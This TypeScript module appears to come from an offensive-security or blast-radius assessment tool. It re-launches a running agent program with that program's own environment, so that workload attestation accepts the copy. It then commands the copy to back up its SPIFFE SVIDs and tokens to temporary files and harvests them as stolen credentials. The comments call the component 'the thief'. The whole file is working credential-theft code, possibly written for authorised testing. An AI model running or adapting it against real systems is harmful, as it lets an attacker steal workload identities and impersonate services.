import { spawn } from 'node:child_process';
import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { setTimeout as pause } from 'node:timers/promises';
import type { ProcessCommand } from '@blastradius/contracts';
import type { Credential } from '../loot/credential.ts';
import { credentialsIn } from './credentials-in.ts';
import { findSecrets, KeyRing, noFinds } from './find-secrets.ts';
import type { ProcessView } from './process-view.ts';

const POLL_MS = 100;
/** While it starts it only puts off what it is asked. */
const FIRST_POLL_MS = 250;
/** A program of a busy machine takes its time to start, and to be attested. */
const FIRST_WITHIN_MS = 15_000;
const AGAIN_WITHIN_MS = 1500;
/** Nobody listens there: what the program does for its agents beside fetching their identities fails. */
const NOWHERE = 'https://127.0.0.1:9';

interface Commands {
  send(command: ProcessCommand): void;
  end(): void;
}

/**
 * The agent's own program, started once more by somebody of the same user: with the environment that the
 * running one has, but for where it sends to. Attestation sees the same user, runtime and script. It does
 * what its starter tells it, and that is the thief.
 */
export class AgentProgram {
  readonly #commands: Commands;
  readonly #folder: string;
  readonly #agents: readonly string[];
  readonly #keys = new KeyRing();
  #hasAnswered = false;

  private constructor(commands: Commands, folder: string, agents: readonly string[]) {
    this.#commands = commands;
    this.#folder = folder;
    this.#agents = agents;
  }

  /** `pid` is the running one; `agents` are those that it may be carrying. */
  static async start(view: ProcessView, pid: number, agents: readonly string[]): Promise<AgentProgram> {
    const [runtime, ...words] = await view.commandLine(pid);
    const environment = Object.fromEntries(await view.environment(pid));
    const folder = await mkdtemp(join(tmpdir(), 'thief-'));
    const child = spawn(runtime ?? '', words, {
      stdio: ['pipe', 'ignore', 'ignore'],
      env: { ...environment, NETWORK_URL: NOWHERE, LEDGER_FILE: join(folder, 'ledger.jsonl') },
    });
    child.on('error', () => {});
    child.stdin.on('error', () => {});
    const commands = {
      send: (command: ProcessCommand) => void child.stdin.write(`${JSON.stringify(command)}\n`),
      end: () => void child.kill('SIGKILL'),
    };
    commands.send({ command: 'enrol' });
    return new AgentProgram(commands, folder, agents);
  }

  /** What it was given as of now, once that is anything; nothing where it was given nothing, or `isOver`. */
  async identities(isOver: () => boolean): Promise<Credential[]> {
    const files = this.#agents.map((agent, index) => ({ agent, file: join(this.#folder, `copy-${index}`) }));
    await Promise.all(files.map(({ file }) => rm(file, { force: true })));
    const deadlineMs = performance.now() + (this.#hasAnswered ? AGAIN_WITHIN_MS : FIRST_WITHIN_MS);
    let found: Credential[] = [];
    while (found.length === 0 && performance.now() < deadlineMs && !isOver()) {
      for (const { agent, file } of files) this.#commands.send({ command: 'back-up-svid', agent, file });
      await pause(this.#hasAnswered ? POLL_MS : FIRST_POLL_MS);
      const finds = noFinds();
      for (const { file } of files) findSecrets(await readIfThere(file), finds, { isMemory: false });
      found = credentialsIn(finds, this.#keys, new Date());
    }
    this.#hasAnswered ||= found.length > 0;
    return found.map(asGiven);
  }

  async close(): Promise<void> {
    this.#commands.end();
    await rm(this.#folder, { recursive: true, force: true });
  }
}

/** It came from the Workload API, by way of a program that is entitled to it. */
function asGiven(credential: Credential): Credential {
  const isSvid = ['jwt-svid', 'bound-access-token', 'wit-svid', 'x509-svid'].includes(credential.kind);
  return isSvid ? ({ ...credential, from: 'workload-api' } as Credential) : credential;
}

async function readIfThere(file: string): Promise<Buffer> {
  try {
    return await readFile(file);
  } catch {
    return Buffer.alloc(0);
  }
}
